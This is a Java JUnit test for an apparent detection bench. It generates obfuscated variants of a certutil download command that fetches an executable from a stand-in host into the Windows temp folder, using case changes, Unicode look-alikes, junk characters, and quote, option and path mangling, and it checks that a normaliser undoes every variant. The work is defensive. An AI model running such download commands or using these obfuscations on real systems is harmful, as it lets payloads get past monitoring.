package org.gamekeeper.bench.lotl;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Random;
import org.gamekeeper.bench.lotl.ArgFuscatorVariants.Profile;
import org.gamekeeper.engine.mapping.CommandLineNormalizer;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The ArgFuscator-style generator on a model written here (ArgFuscator's own models are
 * third-party data, read only by the bench): each modifier does what its description says, and
 * every disguise the normaliser claims to undo normalises to the plain command's form.
 */
class ArgFuscatorVariantsTest {

    private static final String MODEL = """
            {"name": "certutil", "profiles": [{"platform": "windows",
              "command": [{"command": "certutil.exe"}, {"argument": "-urlcache"}, {"argument": "-split"}, {"argument": "-f"},
                          {"url": "https://example.org/a.exe"}, {"argument": "/out:"}, {"path": "c:\\\\windows\\\\temp\\\\a.exe"}],
              "modifiers": {
                "RandomCase": {"AppliesTo": ["argument", "path", "command"], "Probability": "0.5"},
                "Sed": {"AppliesTo": ["argument"], "Probability": "0.5", "SedStatements": "s/a/\\u1d43/i\\ns/e/\\u1d49/i\\ns/l/\\u02e1/i"},
                "FilePathTransformer": {"AppliesTo": ["path"], "Probability": "0.7", "PathTraversal": true, "SubstituteSlashes": true, "ExtraSlashes": true},
                "OptionCharSubstitution": {"AppliesTo": ["argument"], "Probability": "0.5", "OutputOptionChars": ["-", "/", "\\u2013", "\\u2212"]},
                "CharacterInsertion": {"AppliesTo": ["argument"], "Probability": "0.4", "Characters": "junk", "Offset": "2"},
                "QuoteInsertion": {"AppliesTo": ["argument", "path"], "Probability": "0.4"},
                "UrlTransformer": {"AppliesTo": ["url"], "Probability": "0.5", "SubstituteSlashes": true, "LeaveOutDoubleSlashes": true}
              }}]}
            """;

    private static Profile profile(Path dir) throws Exception {
        Files.createDirectories(dir.resolve("models"));
        Files.createDirectories(dir.resolve("charsets"));
        Files.writeString(dir.resolve("models/certutil.json"), MODEL, StandardCharsets.UTF_8);
        // unassigned code points and format characters, as the models' lists hold
        Files.writeString(dir.resolve("charsets/junk.txt"), "0378-0379\n0380-0383\n2061-2064\n", StandardCharsets.UTF_8);
        List<Profile> all = ArgFuscatorVariants.read(dir);
        assertEquals(1, all.size());
        return all.get(0);
    }

    @Test
    void theModelReadsAndJoinsAsTyped(@TempDir Path dir) throws Exception {
        Profile p = profile(dir);
        // no space after an argument that ends in a colon
        assertEquals("certutil.exe -urlcache -split -f https://example.org/a.exe /out:c:\\windows\\temp\\a.exe", p.plain());
        assertEquals(7, p.modifiers().size());
        assertEquals(10, p.charsets().get("junk").size());
    }

    @Test
    void modifiersDoWhatTheySay() {
        Random r = new Random(1);
        for (int i = 0; i < 200; i++) {
            String q = ArgFuscatorVariants.insertQuotes("-urlcache", 0.5, r);
            assertEquals(0, q.chars().filter(c -> c == '"').count() % 2, q);
            assertEquals("-urlcache", q.replace("\"", ""));
            String o = ArgFuscatorVariants.optionChar("-split", List.of("-", "/", "\u2013"), 1.0, r);
            assertNotEquals('-', o.charAt(0));
            assertEquals("split", o.substring(1));
            // a token whose second character is also an option character keeps its first
            assertEquals("//e:vbs", ArgFuscatorVariants.optionChar("//e:vbs", List.of("-", "/"), 1.0, r));
            String ins = ArgFuscatorVariants.insertCharacters("-urlcache:", List.of("\u0378"), 2, 0.5, r);
            // nothing before the offset, nothing after a trailing colon
            assertTrue(ins.startsWith("-u") && ins.endsWith(":") && !ins.endsWith("\u0378"), ins);
            assertEquals("-urlcache:", ins.replace("\u0378", ""));
        }
        assertEquals("\u1d49xp\u1d52rt", ArgFuscatorVariants.sed("export", "export", "s/e/\u1d49/i\ns/o/\u1d52/i", 1.0, r));
        assertEquals("EXPORT", ArgFuscatorVariants.randomCase("export", 1.0, r));
    }

    @Test
    void everyDisguiseNormalisesToThePlainCommand(@TempDir Path dir) throws Exception {
        Profile p = profile(dir);
        String plain = CommandLineNormalizer.normalize(p.plain());
        List<String> variants = ArgFuscatorVariants.variants(p, 300, 7);
        long changed = variants.stream().filter(v -> !v.equals(p.plain())).count();
        assertTrue(changed > 250, "only " + changed + " of 300 variants differ from the plain command");
        for (String v : variants) {
            assertEquals(plain, CommandLineNormalizer.normalize(v), "variant: " + v);
        }
    }
}
